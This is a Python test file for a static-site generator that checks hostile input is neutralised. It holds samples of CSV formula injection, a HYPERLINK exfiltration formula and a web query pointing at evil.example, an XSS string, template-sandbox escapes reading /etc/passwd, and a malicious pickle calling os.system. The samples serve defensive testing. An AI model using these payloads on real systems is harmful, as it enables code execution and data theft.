"""Hostile and careless input (issue 9): what reaches readers' spreadsheets, workbooks that are not what they
seem, and text that must stay data."""
from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pytest

PACKAGE_WITH_WORKBOOK = """\
resources:
- name: pelatihan
  path: pelatihan.xlsx
  sheet: Pelatihan
  schema:
    fields:
    - {name: kegiatan, type: string}
    - {name: peserta, type: integer}
"""


def _workbook(rows, formulas=(), merge=None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Pelatihan"
    for row in rows:
        sheet.append(row)
    for cell, formula in formulas:
        sheet[cell] = formula  # openpyxl saves no value for a formula: as a program, not Excel, would
    if merge:
        sheet.merge_cells(merge)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_formulas_in_cells_are_neutralised_in_every_csv_download(make_site, run_cli, tmp_path):
    hostile = ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]
    rows = "".join(f"{7401 + i},\"{text}\"\n" for i, text in enumerate(hostile))
    site = make_site({"data/wilayah.csv": "kode,nama\n" + rows + "7471,Kota Kendari\n"})
    out = tmp_path / "out"
    assert run_cli("build", "--site", site, "--out", out, "--quiet").code == 0
    published = list(csv.reader(io.StringIO((out / "data" / "wilayah.csv").read_text(encoding="utf-8"))))
    assert [row[1] for row in published[1:5]] == ["'" + text for text in hostile]
    assert published[5] == ["7471", "Kota Kendari"]
    ikm = (out / "data" / "ikm.csv").read_bytes()
    assert ikm == (site / "data" / "ikm.csv").read_bytes()  # nothing to neutralise: the file as it is
    charts = list((out / "2020-11").rglob("gambar-*.csv"))
    assert charts
    labels = [row[1] for path in charts for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8")))][1:]
    assert labels and all(not label.startswith(("=", "@", "+")) for label in labels), labels
    assert "'=cmd|' /C calc'!A0" in labels
    assert "menjalankannya sebagai rumus" in (out / "data" / "index.html").read_text(encoding="utf-8")


def _with_saved_formula(workbook: bytes, cell: str, formula: str) -> bytes:
    """The workbook with `formula` in `cell` and its value kept, as Excel saves a calculated formula."""
    import re
    import zipfile

    source, target = io.BytesIO(workbook), io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for item in old.infolist():
            data = old.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rf'(<c r="{cell}"[^>]*>)(<v>)'.encode(), rf"\1<f>{formula}</f>\2".encode(), data)
                assert b"<f>" in data
            new.writestr(item, data)
    return target.getvalue()


def test_a_workbook_with_formulas_is_offered_only_as_csv(make_site, run_cli, tmp_path):
    saved = _workbook([["kegiatan", "peserta"], ["Masker", 20], ["Kelor", 15]])
    site = make_site({"data/datapackage.yaml": PACKAGE_WITH_WORKBOOK, "data/pelatihan.xlsx": saved,
                      "content/2020-11/sorotan.md": None})
    out = tmp_path / "out"
    assert run_cli("build", "--site", site, "--out", out, "--quiet").code == 0
    assert (out / "data" / "pelatihan.xlsx").read_bytes() == saved  # no formula: offered as it is
    make_site({"data/pelatihan.xlsx": _with_saved_formula(saved, "B3", "10+5")}, base=False)
    assert run_cli("build", "--site", site, "--out", out, "--quiet").code == 0
    assert not (out / "data" / "pelatihan.xlsx").exists()
    assert (out / "data" / "pelatihan.csv").read_text(encoding="utf-8") == "kegiatan,peserta\nMasker,20\nKelor,15\n"
    assert "XLSX" not in (out / "data" / "index.html").read_text(encoding="utf-8")
    # The sheet stored elsewhere than xl/worksheets/ (its relations say where: Excel follows them), its formula
    # written with a namespace prefix: still not offered.
    for moved in ("xl/lembar/data.xml", "xl/lembar/data.dat"):  # a part's name may end as it likes
        make_site({"data/pelatihan.xlsx": _moved_sheet(_with_saved_formula(saved, "B3", "10+5"), moved)}, base=False)
        assert run_cli("build", "--site", site, "--out", out, "--quiet").code == 0
        assert not (out / "data" / "pelatihan.xlsx").exists(), moved
    # A picture whose bytes happen to hold `<f>` is no formula: offered as it is.
    with_picture = _with_part(saved, "xl/media/image1.png", b"\x89PNG\r\n\x1a\n<f>\x00\x01")
    make_site({"data/pelatihan.xlsx": with_picture}, base=False)
    assert run_cli("build", "--site", site, "--out", out, "--quiet").code == 0
    assert (out / "data" / "pelatihan.xlsx").read_bytes() == with_picture
    # A web query that Excel refreshes on opening, without any formula: not offered either.
    make_site({"data/pelatihan.xlsx": _with_part(saved, "xl/connections.xml", b'<connections><connection id="1" '
                                                 b'refreshOnLoad="1"><webPr url="https://evil.example/q"/>'
                                                 b"</connection></connections>")}, base=False)
    assert run_cli("build", "--site", site, "--out", out, "--quiet").code == 0
    assert not (out / "data" / "pelatihan.xlsx").exists()


def _with_part(data: bytes, name: str, content: bytes) -> bytes:
    import zipfile

    source, target = io.BytesIO(data), io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for info in old.infolist():
            new.writestr(info.filename, old.read(info.filename))
        new.writestr(name, content)
    return target.getvalue()


def test_a_column_name_a_spreadsheet_would_run_is_made_plain_in_the_download():
    from types import SimpleNamespace

    import pandas as pd

    from buletin.outputs.downloads import table_csv

    frame = pd.DataFrame([["=1+2", "7401"]], columns=['=HYPERLINK("https://evil.example/?"&A2,"jenis")', "kode"])
    assert table_csv(SimpleNamespace(frame=frame)).decode().splitlines() == [
        '"\'=HYPERLINK(""https://evil.example/?""&A2,""jenis"")",kode', "'=1+2,7401"]


def _moved_sheet(data: bytes, to: str = "xl/lembar/data.xml") -> bytes:
    """The workbook with its first sheet at `to`, its <f> written <x:f>."""
    import zipfile

    source, target = io.BytesIO(data), io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for info in old.infolist():
            part = old.read(info.filename)
            name = info.filename
            if name == "xl/worksheets/sheet1.xml":
                name = to
                main = b'<worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                part = part.replace(b"<f>", b"<x:f>").replace(b"</f>", b"</x:f>").replace(b"<worksheet ", main, 1)
            part = part.replace(b"worksheets/sheet1.xml", to.removeprefix("xl/").encode())
            new.writestr(name, part)
    return target.getvalue()


@pytest.mark.parametrize(("content", "words"), [
    (b"", "the file is empty"),
    (b"kegiatan,peserta\nMasker,20\n", "not an Excel workbook (.xlsx), perhaps a CSV"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "password-protected workbook"),
    (b"PK\x05\x06" + b"\0" * 18, "not an Excel workbook"),
])
def test_a_file_that_is_not_a_workbook_is_an_error_at_the_file(broken, content, words):
    _site, break_site = broken
    result = break_site({"data/datapackage.yaml": PACKAGE_WITH_WORKBOOK, "data/pelatihan.xlsx": content})
    assert_line = [line for line in result.err.splitlines() if line.startswith("data/pelatihan.xlsx: error: ")]
    assert assert_line and words in assert_line[0], result.err


def test_merged_cells_and_unsaved_formulas_are_named_by_cell(broken):
    _site, break_site = broken
    rows = [["kegiatan", "peserta"], ["Masker", 20], ["Kelor", 15], [None, 5]]
    workbook = _workbook(rows, formulas=[("B5", "=SUM(B2:B4)")], merge="A3:A4")
    result = break_site({"data/datapackage.yaml": PACKAGE_WITH_WORKBOOK, "data/pelatihan.xlsx": workbook})
    assert "data/pelatihan.xlsx:Pelatihan!A3: error: cells A3:A4 are merged" in result.err
    assert "Merge & Center" in result.err
    assert "data/pelatihan.xlsx:Pelatihan!B5: error: a formula whose value was never saved" in result.err


def test_invisible_control_characters_in_a_cell_are_errors_at_the_line(broken):
    _site, break_site = broken
    result = break_site({"data/wilayah.csv": "kode,nama\n7401,Buton\n7402,Mu\x00na\n7471,Kota\x07 Kendari\n"})
    assert "data/wilayah.csv:3: error: nama: the cell holds an invisible character (U+0000)" in result.err
    assert "data/wilayah.csv:4: error: nama: the cell holds an invisible character (U+0007)" in result.err


# ---------------------------------------------------------------- a killed build


def _processes_running(marker: str) -> list[int]:
    """Processes whose command line holds `marker` (Linux /proc)."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


def _children(pid: int) -> list[int]:
    found = []
    for task in Path(f"/proc/{pid}/task").glob("*"):
        try:
            found += [int(c) for c in (task / "children").read_text().split()]
        except OSError:
            continue
    return found


@pytest.mark.skipif(not Path("/proc/self/task").is_dir(), reason="needs Linux /proc to see worker processes")
def test_a_build_killed_after_its_workers_started_leaves_no_orphan_lock_or_stray_file(make_site, tmp_path):
    articles = {f"content/2020-11/artikel-{i:03d}.md": f"---\ntitle: Artikel {i}\ndate: 2020-11-09\n---\n\n"
                f"Unit usaha: {{{{ value('ikm', 'unit_usaha', periode=edition.period) }}}}.\n" for i in range(90)}
    site = make_site(articles)
    out = tmp_path / "out"
    marker = str(site)
    command = [sys.executable, "-m", "buletin", "build", "--site", marker, "--out", str(out), "--no-cache"]
    build = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and len(_children(build.pid)) < 2 and build.poll() is None:
        time.sleep(0.02)
    assert build.poll() is None and len(_children(build.pid)) >= 2, "the build finished before its workers started"
    workers = _children(build.pid)
    build.kill()
    build.wait()
    time.sleep(2)  # a worker notices within half a second
    assert not [pid for pid in workers if Path(f"/proc/{pid}").exists() and
                (Path(f"/proc/{pid}/stat").read_text().split()[2] != "Z")], "workers outlived the killed build"
    again = subprocess.run(command, capture_output=True, text=True, timeout=300)
    assert again.returncode == 0, again.stderr
    assert "stopped before it finished; its lock was taken over" in again.stderr
    strays = [p.name for p in out.rglob(".*")] + [p.name for p in tmp_path.iterdir() if p.name != "out" and
                                                   p.name != "site"]
    assert strays == []
    assert not _processes_running(marker)



@pytest.mark.skipif(not hasattr(os, "killpg"), reason="Ctrl-C to a process group is a POSIX terminal's")
def test_ctrl_c_while_the_worker_server_loads_its_libraries_prints_no_traceback(tmp_path):
    """Ctrl-C reaches every process of the build, which stops with its own message. The fork server ignored it
    only once its imports were done: a Ctrl-C while it loaded matplotlib printed a KeyboardInterrupt traceback."""
    import signal

    (tmp_path / "slow_to_import.py").write_text("import time\ntime.sleep(3)\n", encoding="utf-8")
    script = ("import time\nfrom buletin.build.workers import Workers\n"
              "with Workers(2, ('slow_to_import',)) as workers:\n    workers.warm()\n    print('warm', flush=True)\n"
              "    try:\n        time.sleep(20)\n    except KeyboardInterrupt:\n        print('stopped', flush=True)\n")
    engine = Path(__file__).resolve().parents[1]
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(tmp_path), str(engine)]),
           "BULETIN_START_METHOD": "forkserver"}
    process = subprocess.Popen([sys.executable, "-c", script], env=env, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True, start_new_session=True)
    assert process.stdout is not None and process.stdout.readline() == "warm\n"
    time.sleep(1)  # the server is in its imports
    os.killpg(process.pid, signal.SIGINT)
    out, err = process.communicate(timeout=60)
    assert out == "stopped\n"
    assert "Traceback" not in err and "KeyboardInterrupt" not in err, err
    assert "buletin.build.nointerrupt" not in sys.modules  # this process still stops on Ctrl-C

def test_a_read_only_output_folder_is_an_error_that_says_so(make_site, run_cli, tmp_path, tree_snapshot):
    if os.geteuid() == 0:
        pytest.skip("root may write into a read-only folder")
    site = make_site()
    out = tmp_path / "out"
    assert run_cli("build", "--site", site, "--out", out, "--quiet").code == 0
    make_site({"content/2020-11/sorotan.md": "---\ntitle: Baru\ndate: 2020-11-09\n---\n\nTeks baru.\n"}, base=False)
    before = tree_snapshot(out, mtimes=True)
    out.chmod(0o555)
    try:
        result = run_cli("build", "--site", site, "--out", out, "--quiet")
    finally:
        out.chmod(0o755)
    assert result.code == 1 and "cannot write" in result.err and "Permission denied" in result.err
    assert tree_snapshot(out, mtimes=True) == before


# ---------------------------------------------------------------- text that must stay text

HOSTILE = "Kendari</script><script>window.__xss=1</script><img src=x onerror=\"window.__xss=2\">'\"&<!--]]>"


class _Elements(__import__("html.parser").parser.HTMLParser):
    """Tags and attributes as a browser would build them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.scripts: list[dict] = []
        self.handlers: list[str] = []
        self.images: list[str] = []
        self._in_script: dict | None = None

    def handle_starttag(self, tag, attrs):
        names = dict(attrs)
        self.handlers += [f"{tag}.{name}" for name in names if name.startswith("on")]
        if tag == "img":
            self.images.append(names.get("src") or "")
        if tag == "script":
            self._in_script = {"type": names.get("type"), "src": names.get("src"), "text": ""}
            self.scripts.append(self._in_script)

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = None

    def handle_data(self, data):
        if self._in_script is not None:
            self._in_script["text"] += data


def test_hostile_text_in_every_field_stays_text_in_every_output(make_site, run_cli, tmp_path):
    """Front matter, config and data cells holding markup, quotes and script end tags are escaped in HTML,
    SVG, JSON-LD, the feed, the sitemap and the CSV downloads: no element or script is ever made of them."""
    import json
    import xml.etree.ElementTree as ET

    quoted = json.dumps(HOSTILE)  # a YAML double-quoted string is a JSON string
    site = make_site({
        "site.yaml": f"title: {quoted}\nlanguage: id\ndescription: {quoted}\npublisher: {quoted}\n"
                     f"notice: {quoted}\ntimezone: Asia/Makassar\nbase_url: https://example.org/b/\n",
        "content/2020-11/index.md": f"---\ntitle: {quoted}\nsummary: {quoted}\n"
                                    f"highlights:\n- {quoted}\n---\n\nIsi.\n",
        "content/2020-11/sorotan.md": (
            f"---\ntitle: {quoted}\ndate: 2020-11-09\nauthors: [{quoted}]\neditor: {quoted}\n"
            f"location: {quoted}\nsummary: {quoted}\ntags: [{quoted}]\n---\n\nTeks {{{{ value('ikm', 'unit_usaha', "
            f"periode=edition.period) }}}}.\n\n```chart\ntitle: {quoted}\ndata: ikm\nx: kode_wilayah\ny: unit_usaha\n"
            f"filter: {{periode: '2020-11'}}\ncaption: {quoted}\nsource: {quoted}\n```\n"),
        "content/pages/tentang.md": f"---\ntitle: {quoted}\nsummary: {quoted}\n---\n\nTentang.\n",
        "data/wilayah.csv": "kode,nama\n7401," + '"' + HOSTILE.replace('"', '""') + '"' + "\n7402,Muna\n7471,Kendari\n",
    })
    out = tmp_path / "out"
    result = run_cli("build", "--site", site, "--out", out, "--quiet")
    assert result.code == 0, result.err
    pages = sorted(out.rglob("*.html"))
    assert len(pages) > 8
    for path in pages:
        text = path.read_text(encoding="utf-8")
        parsed = _Elements()
        parsed.feed(text)
        assert parsed.handlers == [], (path, parsed.handlers)
        assert "x" not in parsed.images, path
        for script in parsed.scripts:
            assert script["src"] or script["type"] == "application/ld+json", (path, script)
            if script["type"] == "application/ld+json":
                assert "__xss" not in script["text"] or HOSTILE not in script["text"]  # escaped: \u003c...
                json.loads(script["text"])  # still JSON: the text did not end the element
    article = (out / "2020-11" / "sorotan" / "index.html").read_text(encoding="utf-8")
    ld = json.loads(next(s["text"] for s in _scripts(article) if s["type"] == "application/ld+json"))
    assert ld["headline"] == HOSTILE and ld["author"][0]["name"] == HOSTILE
    feed = ET.parse(out / "feed.xml").getroot()
    ns = {"a": "http://www.w3.org/2005/Atom"}
    assert feed.find("a:title", ns).text == HOSTILE
    assert feed.find("a:entry/a:title", ns).text == HOSTILE
    ET.parse(out / "sitemap.xml")
    for svg in out.rglob("*.svg"):
        ET.parse(svg)  # well-formed: a label could not add an element
    assert HOSTILE in [row[1] for row in csv.reader(io.StringIO((out / "data/wilayah.csv").read_text("utf-8")))]


def _scripts(html: str) -> list[dict]:
    parsed = _Elements()
    parsed.feed(html)
    return parsed.scripts


def test_more_jobs_than_twice_the_cores_are_not_started():
    from buletin.build.workers import Workers, cores

    assert Workers(99999).size == 2 * cores()
    assert Workers(1).size == 1 and Workers().size == cores()


def _worker_pid(_item: int) -> int:
    return os.getpid()


@pytest.mark.parametrize("method", ["forkserver", "spawn"])
def test_a_renewed_pool_forks_fresh_workers_where_they_are_cheap(monkeypatch, method):
    """Each stage of a build starts on fresh workers (what an earlier stage left in them weighs nothing) under
    forkserver; under spawn, where a new worker imports everything again, the workers are kept."""
    from buletin.build.workers import Workers

    monkeypatch.setenv("BULETIN_START_METHOD", method)
    with Workers(2) as workers:
        first = set(workers.map(_worker_pid, list(range(8))))
        workers.renew()
        second = set(workers.map(_worker_pid, list(range(8))))
    assert os.getpid() not in first | second
    if method == "forkserver":
        assert first.isdisjoint(second), (first, second)
    else:  # the same two processes did both rounds
        assert len(first | second) <= 2, (first, second)


def test_warming_under_forkserver_starts_the_server_and_waits_for_no_import(slow_server_imports):
    """A cold build warms the pool before reading its inputs, so that the server imports the libraries
    meanwhile. A worker started at once would make the build wait for those imports (most of a second)."""
    import time
    from multiprocessing import forkserver

    from buletin.build.workers import Workers

    with Workers(2, (slow_server_imports(2),)) as workers:
        started = time.perf_counter()
        workers.warm()
        waited = time.perf_counter() - started
        assert waited < 1.0, waited
        assert workers._pool is None and forkserver._forkserver._forkserver_pid is not None
        assert os.getpid() not in set(workers.map(_worker_pid, list(range(4))))


def test_a_theme_macro_that_calls_itself_is_reported_and_the_output_kept(make_site, run_cli, tmp_path, tree_snapshot):
    """`check` does not render the theme; a build does, and stops at the recursion with a message."""
    site, out = make_site(), tmp_path / "out"
    assert run_cli("build", "--site", site, "--out", out).code == 0
    before = tree_snapshot(out)
    (site / "templates").mkdir(exist_ok=True)
    (site / "templates" / "footer_extra.html").write_text("{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}\n",
                                                           encoding="utf-8")
    result = run_cli("build", "--site", site, "--out", out)
    assert result.code == 1 and "templates/footer_extra.html:1: error:" in result.err, result.err
    assert "calls itself" in result.err
    assert "internal error" not in result.err and tree_snapshot(out) == before


@pytest.mark.parametrize(("template", "said"), [
    ("{% set ns = namespace(a='xx') %}{% for i in range(40) %}{% set ns.a = ns.a ~ ns.a %}{% endfor %}"
     "{{ ns.a|length }}", "`~` joins too much"),
    ("{% macro d(s) %}{{ s }}{{ s }}{% endmacro %}{{ d(d(d(d(d(d(d(d(d(d('x' * 100000)))))))))) }}",
     "the text grows past"),
    ("{% set s = 'x' * 1000000 %}{% set a = [s, s, s, s, s, s, s, s, s, s] %}{% set b = [a, a, a, a, a, a, a, a, a, "
     "a] %}{% set c = [b, b, b, b, b, b, b, b, b, b] %}{{ c }}", "a text or list of more than"),
])
def test_a_theme_template_that_doubles_a_text_is_stopped(make_site, run_cli, tmp_path, template, said):
    """`~` was compiled to a join no sandbox hook saw, a macro's output joined unmeasured, and a list holding one
    text many times measured by its length: each asked for gigabytes."""
    site = make_site({"templates/footer_extra.html": "<p>x</p>\n" + template + "\n"})
    result = run_cli("build", "--site", site, "--out", tmp_path / "out")
    assert result.code == 1 and "templates/footer_extra.html:2: error: theme template:" in result.err, result.err
    assert said in result.err and not (tmp_path / "out").exists()


def test_too_much_work_keeps_its_template_line_when_it_comes_back_from_a_worker():
    import pickle

    from buletin.outputs.render import TooMuchToRender

    error = pickle.loads(pickle.dumps(TooMuchToRender("page x: too much work", "/site/templates/a.html", 7)))
    assert (error.message, error.filename, error.lineno) == ("page x: too much work", "/site/templates/a.html", 7)


def test_a_theme_template_that_does_too_much_is_rendered_once(make_site, run_cli, tmp_path, monkeypatch):
    """Rendered again to find its line, a template that loops until the deadline took twice the deadline; too
    much work is said without a line, so once is enough."""
    from buletin.outputs.render import Renderer

    site = make_site({"templates/footer_extra.html": "{{ 'x' * 10**9 }}\n"})
    rendered: list[str] = []
    real = Renderer.render
    monkeypatch.setattr(Renderer, "render", lambda self, job: rendered.append(job.path) or real(self, job))
    result = run_cli("build", "--site", site, "--out", tmp_path / "out", "--jobs", "1")
    assert result.code == 1 and "too much work" in result.err, result.err
    assert len(rendered) == len(set(rendered)) == 1, rendered


@pytest.mark.parametrize("where", [".buletin-cache", ""])
def test_a_full_disk_is_an_error_that_says_so_and_keeps_the_output(make_site, run_cli, tmp_path, tree_snapshot,
                                                                    monkeypatch, where):
    """ENOSPC while writing the build state and work folder, or anything at all: exit 1, the message says to
    free room, the previous output is untouched."""
    site, out = make_site(), tmp_path / "out"
    assert run_cli("build", "--site", site, "--out", out, "--jobs", "1").code == 0
    before = tree_snapshot(out)
    (site / "content/2020-11/sorotan.md").write_text(
        (site / "content/2020-11/sorotan.md").read_text(encoding="utf-8") + "\nSatu kalimat lagi.\n",
        encoding="utf-8")
    real_write, real_open = Path.write_bytes, os.open

    def full(path, *args, **kwargs):
        if where in str(path):
            raise OSError(28, "No space left on device", str(path))
        return real_write(path, *args, **kwargs)

    def full_open(path, flags, *args, **kwargs):
        if flags & os.O_CREAT and where in str(path) and "build.lock" not in str(path):
            raise OSError(28, "No space left on device", str(path))
        return real_open(path, flags, *args, **kwargs)

    monkeypatch.setattr(Path, "write_bytes", full)
    monkeypatch.setattr(os, "open", full_open)
    result = run_cli("build", "--site", site, "--out", out, "--jobs", "1")
    monkeypatch.undo()
    assert result.code == 1, result.err
    assert "internal error" not in result.err and "Traceback" not in result.err, result.err
    assert "room" in result.err, result.err
    assert tree_snapshot(out) == before


@pytest.mark.parametrize("escape", [
    '{{ render.env.loader.loaders[-1].searchpath.append("/etc") }}{% include "passwd" %}',
    '{{ model.catalog.site_root.parent.joinpath("DIBUAT.txt").write_text("x") }}',
    '{{ model.catalog.site_root }}',
    '{{ t.update({"skip": "x"}) }}',
    '{{ assets.clear() }}',
    '{{ model.catalog.get("ikm").frame.to_csv("DIBUAT.csv") }}',
    '{{ model.catalog.tables["ikm"].frame.style.from_custom_template(".", html_table="x") }}',
])
def test_a_theme_template_reaches_no_file_and_changes_nothing(make_site, run_cli, tmp_path, tree_snapshot, escape):
    """A pull request's template could read /etc/passwd into a page or write a file anywhere CI may; and a
    template that empties the model would change other pages."""
    site = make_site({"templates/footer_extra.html": escape + "\n"})
    out = tmp_path / "out"
    def files() -> dict:
        return {rel: data for rel, data in tree_snapshot(tmp_path).items() if ".buletin-cache" not in rel}

    before = files()
    result = run_cli("build", "--site", site, "--out", out)
    assert result.code == 1 and "templates/footer_extra.html:1: error: theme template:" in result.err, result.err
    assert files() == before and not out.exists() and "root:x:0:0" not in result.err


def test_a_linked_cache_folder_is_refused_and_nothing_beyond_it_is_touched(make_site, run_cli, tmp_path):
    """Through `.buletin-cache -> ..` the cache's tidying removed the site's own folders and its neighbours'."""
    site = make_site()
    neighbour = tmp_path / "lain" / "berkas.txt"
    neighbour.parent.mkdir()
    neighbour.write_text("milik orang lain")
    (site / ".buletin-cache").symlink_to(tmp_path)
    for more in ([], ["--no-cache"]):
        result = run_cli("build", "--site", site, "--out", tmp_path / "out", *more)
        assert result.code == 2 and ".buletin-cache is a link to another folder" in result.err, result.err
    assert neighbour.read_text() == "milik orang lain" and (site / "content").is_dir()
    assert not (tmp_path / "build.lock").exists() and not (tmp_path / "out").exists()


def test_a_committed_cache_is_not_read(make_site, run_cli, tmp_path):
    """Its entries are pickles: one that came with a pull request could run code when read."""
    site = make_site()
    assert run_cli("build", "--site", site, "--out", tmp_path / "out").code == 0
    git = ["git", "-C", str(site), "-c", "user.email=a@b", "-c", "user.name=a"]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "add", "-f", ".buletin-cache"], check=True)
    subprocess.run([*git, "commit", "-qm", "x"], check=True)
    store = site / ".buletin-cache" / "store.sqlite"
    store.write_bytes(b"not a store")  # as a pull request could make it: read, it would be an error
    for command in (["check"], ["build", "--out", str(tmp_path / "out")]):
        result = run_cli(*command, "--site", site)
        assert result.code == 0 and "holds files committed to the repository, so it is neither read nor " \
            "written" in result.err, result.err
    assert store.read_bytes() == b"not a store"
    subprocess.run([*git, "rm", "-rq", "--cached", ".buletin-cache"], check=True)
    assert "committed" not in run_cli("check", "--site", site).err


def test_a_workbook_whose_sheet_is_not_well_formed_xml_is_damaged_not_an_internal_error(make_site, run_cli):
    import zipfile

    source, target = io.BytesIO(_workbook([["kegiatan", "peserta"], ["Masker", 20]])), io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for info in old.infolist():
            part = old.read(info.filename)
            new.writestr(info, part.replace(b"<v>20</v>", b"<v>20</v><x:f>1</x:f>"))
    site = make_site({"data/datapackage.yaml": PACKAGE_WITH_WORKBOOK, "data/pelatihan.xlsx": target.getvalue(),
                      "content/2020-11/sorotan.md": None})
    result = run_cli("check", "--site", site)
    assert result.code == 1 and "data/pelatihan.xlsx: error: a damaged workbook" in result.err, result.err


def test_a_workbook_declaring_millions_of_cell_formats_is_refused_before_openpyxl_reads_them(make_site, run_cli):
    """openpyxl reads the whole styles part even in read-only mode: 3,000,000 `<xf/>` (a 28 KB file) took 2 GB
    and 52 s; Excel itself allows 64,000 cell formats (each with an alignment, 128,000 start tags: fine)."""
    import zipfile

    source, target = io.BytesIO(_workbook([["kegiatan", "peserta"], ["Masker", 20]])), io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            part = old.read(info.filename)
            if info.filename == "xl/styles.xml":
                part = part.replace(b"</cellXfs>", b"<xf><alignment/></xf>" * 300_000 + b"</cellXfs>")
            new.writestr(info.filename, part)
    site = make_site({"data/datapackage.yaml": PACKAGE_WITH_WORKBOOK, "data/pelatihan.xlsx": target.getvalue(),
                      "content/2020-11/sorotan.md": None})
    result = run_cli("check", "--site", site, "--lang", "en")
    assert result.code == 1 and "data/pelatihan.xlsx: error: the workbook's styles hold 600,0" in result.err, result.err
    assert "Paste Special > Values" in result.err


def test_a_poisoned_cache_entry_runs_nothing_and_is_made_again(make_site, run_cli, tmp_path):
    """A cache from elsewhere (an archive, another machine, a checkout git cannot read) may hold a pickle that
    names any function: only buletin's own data classes, dates and containers are made from an entry."""
    import pickle
    import sqlite3

    site, out, fresh = make_site(), tmp_path / "out", tmp_path / "fresh"
    assert run_cli("build", "--site", site, "--out", out).code == 0
    marker = tmp_path / "DIJALANKAN"

    class Evil:
        def __reduce__(self):
            return (os.system, (f"touch {marker}",))

    store = sqlite3.connect(site / ".buletin-cache" / "store.sqlite")
    store.execute("update entries set data=?", (pickle.dumps(Evil()),))
    store.commit()
    store.close()
    for record in (site / ".buletin-cache" / "records").iterdir():
        record.write_bytes(pickle.dumps(Evil()))
    shutil.rmtree(out)
    assert run_cli("build", "--site", site, "--out", out).code == 0
    assert run_cli("build", "--site", site, "--out", fresh, "--no-cache").code == 0
    assert not marker.exists()
    assert {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()} == \
        {p.relative_to(fresh): p.read_bytes() for p in fresh.rglob("*") if p.is_file()}


@pytest.mark.parametrize("value", ["abc", "1.5", "-5", "99999999999999999999", "253402300800"])
def test_a_source_date_epoch_that_is_no_time_is_an_error_that_names_it(make_site, run_cli, monkeypatch, tmp_path,
                                                                        value):
    """matplotlib read `abc` and failed with an internal error; 99999999999999999999 overflowed, 253402300800 is
    the year 10000; buletin itself ignored `abc` and `-5`, taking the clock."""
    monkeypatch.setenv("SOURCE_DATE_EPOCH", value)
    result = run_cli("build", "--site", make_site(), "--out", tmp_path / "out")
    assert result.code == 2 and "Traceback" not in result.err
    assert f"SOURCE_DATE_EPOCH is `{value}`: it must be the build's time in whole seconds since 1970" in result.err
    assert not (tmp_path / "out").exists()
